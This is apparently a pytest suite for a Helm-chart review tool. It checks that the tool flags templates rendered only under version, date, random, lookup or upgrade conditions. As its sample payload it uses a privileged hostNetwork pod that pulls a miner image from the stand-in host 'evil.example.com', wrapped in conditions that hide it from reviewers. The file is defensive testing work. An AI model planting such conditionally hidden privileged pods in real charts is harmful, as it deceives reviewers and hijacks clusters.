"""A chart hides nothing from ``check`` and from the review of ``plan --base`` by asking where it is rendered."""

from __future__ import annotations

import asyncio
import json
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.support import layouts

from hanbae.actions import new_service
from hanbae.charts import pools
from hanbae.cli import main

Run = Callable[..., tuple[int, str]]
TEMPLATES = "services/auth/helm/templates"
POD = """
apiVersion: v1
kind: Pod
metadata: {name: miner}
spec:
  hostNetwork: true
  containers: [{name: app, image: "evil.example.com/miner:latest", securityContext: {privileged: true}}]
"""
GIT_VERSION = '(semverCompare ">=1" .Capabilities.KubeVersion.GitVersion)'
# Condition under which the pod is there → codes that say so: either what it is, or that nobody knows whether it is.
HIDDEN: dict[str, set[str]] = {
    'semverCompare ">=4.3.0" .Capabilities.HelmVersion.Version': {"KUB001", "INP007"},
    'semverCompare "<4.3.0" .Capabilities.HelmVersion.Version': {"INP007"},
    'ne .Capabilities.KubeVersion.Version "v1.35.0"': {"INP007"},
    'semverCompare ">=1.35.1" .Capabilities.KubeVersion.GitVersion': {"INP007"},
    '.Capabilities.APIVersions.Has "argoproj.io/v1alpha1/Rollout"': {"INP008"},
    'not (.Capabilities.APIVersions.Has "argoproj.io/v1alpha1/Rollout")': {"INP008"},
    'gt (now | date "2006" | int) 2030': {"ARG029"},
    "eq (randInt 0 1000) 7": {"ARG029"},
    'hasPrefix "a" (uuidv4)': {"ARG029"},
    'lookup "v1" "Namespace" "" "kube-system"': {"ARG030"},
    'not (lookup "v1" "Namespace" "" "")': {"ARG030"},
    'contains "example.com/v1" (toJson .Capabilities.APIVersions)': {"INP008"},
    'has "example.com/v1" .Capabilities.APIVersions': {"INP008"},
    f'and {GIT_VERSION} (semverCompare ">=5" .Capabilities.HelmVersion.Version)': {"INP007"},
    # Where the text does not show it, and a release that is one of many.
    f'and {GIT_VERSION} (int (trimPrefix "v1.35." .Capabilities.KubeVersion.Version))': {"INP007"},
    'gt (date "2006" "x" | int) 2030': {"ARG029"},
    'eq .Capabilities.KubeVersion.Version (printf "v1.35.%d" 4)': {"INP007"},
    ".Release.IsUpgrade": {"ARG030"},
    "gt .Release.Revision 1": {"ARG030"},
}


def git(root: Path, *words: str) -> None:
    identity = ("-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "commit.gpgsign=false")
    subprocess.run(["git", *identity, *words], cwd=root, check=True, capture_output=True)


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    layouts.begin(tmp_path, "one-cluster")
    new_service.new_service(tmp_path, "auth")
    git(tmp_path, "init", "-q")
    commit(tmp_path)
    return tmp_path


def commit(root: Path) -> None:
    git(root, "add", "--all")
    git(root, "commit", "-qm", "x")


@pytest.fixture
def run(shop: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Run:
    monkeypatch.setenv("COLUMNS", "400")

    def run(*arguments: str) -> tuple[int, str]:
        capsys.readouterr()
        code = main.run(["--lang", "en", "-C", str(shop), *arguments])
        return code, capsys.readouterr().out

    return run


def hide(shop: Path, condition: str) -> None:
    path = shop / TEMPLATES / "hidden.yaml"
    path.write_text(f"{{{{- if {condition} }}}}{POD}{{{{- end }}}}\n")
    commit(shop)


@pytest.mark.parametrize("condition", HIDDEN)
def test_what_is_hidden_is_found_by_check_and_shown_by_plan(
    shop: Path, run: Run, condition: str
) -> None:
    hide(shop, condition)
    _, out = run("check", "--no-cache", "--env", "dev", "--output", "json")
    codes = {
        finding["code"]
        for finding in json.loads(out)["findings"]
        if finding["place"]["file"].endswith(("hidden.yaml", "Chart.yaml"))
    }
    assert codes & HIDDEN[condition], codes
    _, out = run("plan", "auth", "--base", "HEAD~1", "--head", "HEAD", "--env", "dev")
    assert "Nothing differs" not in out
    assert any(name in out for name in ("hidden.yaml", "helm/Chart.yaml", "miner"))


def with_a_comment(shop: Path, run: Run, codes: str) -> None:
    path = shop / TEMPLATES / "hidden.yaml"
    path.write_text(f"{{{{/* hanbae: ignore {codes} it is meant so */}}}}\n{path.read_text()}")


def with_a_baseline(shop: Path, run: Run, codes: str) -> None:
    assert run("check", "--write-baseline")[0] == 0


@pytest.mark.parametrize("accept", [with_a_comment, with_a_baseline], ids=lambda way: way.__name__)
@pytest.mark.parametrize(
    ("condition", "code"),
    [
        ('ne .Capabilities.KubeVersion.Version "v1.35.0"', "INP007"),
        ("eq (randInt 0 1000) 7", "ARG029"),
    ],
)
def test_a_branch_cannot_accept_for_its_reviewer_what_it_hides(
    shop: Path, run: Run, condition: str, code: str, accept: Callable[[Path, Run, str], None]
) -> None:
    hide(shop, condition)
    accept(shop, run, code)
    commit(shop)
    assert "hidden.yaml" not in run("check", "--no-cache")[1]
    _, out = run("plan", "auth", "--base", "HEAD~2", "--head", "HEAD")
    assert "hidden.yaml" in out
    assert "Nothing differs" not in out


def test_a_hidden_pod_is_judged_as_one_that_is_there(shop: Path, run: Run) -> None:
    hide(shop, '.Capabilities.APIVersions.Has "argoproj.io/v1alpha1/Rollout"')
    code, out = run("check", "--no-cache", "--output", "json")
    codes = {finding["code"] for finding in json.loads(out)["findings"]}
    assert code == 1
    hide(shop, "true")
    assert codes >= {
        finding["code"]
        for finding in json.loads(run("check", "--no-cache", "--output", "json")[1])["findings"]
    }


def test_a_branch_settles_nothing_but_what_argo_cd_renders_with(shop: Path, run: Run) -> None:
    """Beside the chart it may say which Kubernetes there is, and that says nothing of other API versions."""

    def codes() -> set[str]:
        _, out = run("check", "--no-cache", "--env", "dev", "--output", "json")
        return {finding["code"] for finding in json.loads(out)["findings"]}

    hide(shop, '.Capabilities.APIVersions.Has "argoproj.io/v1alpha1/Rollout"')
    source = shop / "services/auth/helm/.argocd-source.yaml"
    source.write_text("helm: {kubeVersion: v1.35.4}\n")
    commit(shop)
    without = codes()
    assert "INP008" in without
    source.write_text("helm: {apiVersions: [argoproj.io/v1alpha1/Rollout]}\n")
    commit(shop)
    assert codes() - {"INP008"} >= without - {"INP008"}, "the pod is there in any case"
    assert "INP008" not in codes()


HAS = ".Capabilities.APIVersions.Has"
OF_MANY = f'and ({HAS} "a.io/v1") ({HAS} "b.io/v1") (not ({HAS} "c.io/v1")) (not ({HAS} "d.io/v1"))'
# Condition → what is noted of it: functions that were called, identities that differ, what was not tried.
NOTED: dict[str, tuple[set[str], set[str], bool]] = {
    'gt (date "2006" "x" | int) 2030': ({"date"}, set(), False),
    'gt (htmlDateInZone "x" "UTC" | substr 0 4 | int) 2030': ({"htmlDateInZone"}, set(), False),
    'eq (tpl (printf "{{ n%s | date \\"2006\\" }}" "ow") .) "2031"': ({"now"}, set(), False),
    'and (ne "}}" "") (gt (now | date "2006" | int) 2030)': ({"now"}, set(), False),
    'eq (first (keys (dict "a" 1 "b" 2 "c" 3 "d" 4))) "d"': ({"keys"}, set(), False),
    'eq (first (values (dict "a" 1 "b" 2 "c" 3 "d" 4))) 4': ({"keys"}, set(), False),
    'eq .Capabilities.KubeVersion.Version "v1.35.4"': (set(), {"Kubernetes v1.35.4"}, False),
    'eq .Capabilities.KubeVersion.Version (printf "v1.35.%d" 4)': (
        set(),
        {"Kubernetes v1.35.4"},
        False,
    ),
    'eq .Capabilities.KubeVersion.Version "v1.35.4-gke.1091000"': (
        set(),
        {"Kubernetes v1.35.4-gke.1091000"},
        False,
    ),
    'eq .Capabilities.HelmVersion.Version "v4.4.0"': (set(), {"Helm v4.4.0"}, False),
    f'and ({OF_MANY}) (not ({HAS} "e.io/v1"))': (set(), set(), True),
    # The same each time, everywhere.
    'eq (keys (dict "a" 1 "b" 2) | sortAlpha | join ",") "x"': (set(), set(), False),
    'has "a" (keys (dict "a" 1 "b" 2))': (set(), set(), False),
    'eq (date "15" 0) "00"': (set(), set(), False),
    'semverCompare ">=1.21-0" .Capabilities.KubeVersion.Version': (set(), set(), False),
    'eq "35" .Capabilities.KubeVersion.Minor': (set(), set(), False),
}


@pytest.fixture(scope="module")
def noted() -> dict[str, pools.Answer]:
    """The renderer's answer for each condition, of one renderer."""

    async def ask() -> dict[str, pools.Answer]:
        answers = {}
        async with pools.opened(1) as pool:
            for condition in [*NOTED, OF_MANY]:
                template = f"{{{{- if {condition} }}}}{POD}{{{{- end }}}}\n".encode()
                chart = b"apiVersion: v2\nname: a\nversion: 1.0.0\n"
                files = {"Chart.yaml": chart, "templates/a.yaml": template}
                request = pools.Release("r", "n", (), "v1.35.0", ("apps/v1",))
                (answers[condition],) = await pool.render(
                    files, pools.Request([request]), chart="a"
                )
        return answers

    return asyncio.run(ask())


@pytest.mark.parametrize("condition", NOTED)
def test_what_decides_is_noted_however_it_is_asked(
    noted: dict[str, pools.Answer], condition: str
) -> None:
    answer = noted[condition]
    calls, identities, is_untried = NOTED[condition]
    assert answer.error is None
    assert set(answer.calls) == calls
    assert {difference.identity for difference in answer.differences} == identities
    assert bool(answer.untried) is is_untried


def test_every_combination_of_four_versions_is_tried(noted: dict[str, pools.Answer]) -> None:
    (other,) = noted[OF_MANY].alternatives
    assert other.assumed == ("a.io/v1", "b.io/v1")


def test_dates_are_those_of_no_place(shop: Path, run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    """Argo CD's image is in no time zone; what a chart makes of the reviewer's would differ from it."""
    monkeypatch.setenv("TZ", "Asia/Seoul")
    text = (
        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata: {x: '{{ date \"15\" 0 }}'}\n"
    )
    (shop / TEMPLATES / "hidden.yaml").write_text(text)
    assert run("render", "auth", "--env", "dev")[1].count("x: '00'") == 1
